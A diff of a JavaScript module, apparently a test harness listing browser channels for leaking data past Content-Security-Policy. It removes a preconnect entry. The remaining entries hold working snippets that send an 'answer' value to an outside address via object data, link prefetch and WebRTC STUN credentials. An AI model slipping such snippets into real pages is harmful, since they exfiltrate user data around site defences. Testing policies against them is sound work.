@@ -51,8 +51,6 @@ export const channels = [
     (document.body.appendChild(document.createElement("object")).data = `${elsewhere}?${answer}`) },
   { name: "`prefetch` of another site", closedBy: "default-src", attempt: ({ elsewhere, answer }) =>
     Object.assign(document.head.appendChild(document.createElement("link")), { rel: "prefetch", href: `${elsewhere}?${answer}` }) },
-  { name: "`preconnect` (a name looked up and a connection opened; nothing of an address but its host)", closedBy: null, remedy: "none in a page: a name of 63 letters a label can carry a little", connects: true, attempt: ({ elsewhere }) =>
-    Object.assign(document.head.appendChild(document.createElement("link")), { rel: "preconnect", href: elsewhere }) },
   { name: "WebRTC (STUN over UDP)", closedBy: null, remedy: "none in a page: browsers know no directive for it", attempt: async ({ udp, answer }) => {
     const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}`, username: answer, credential: answer }] });
     peer.createDataChannel("out");
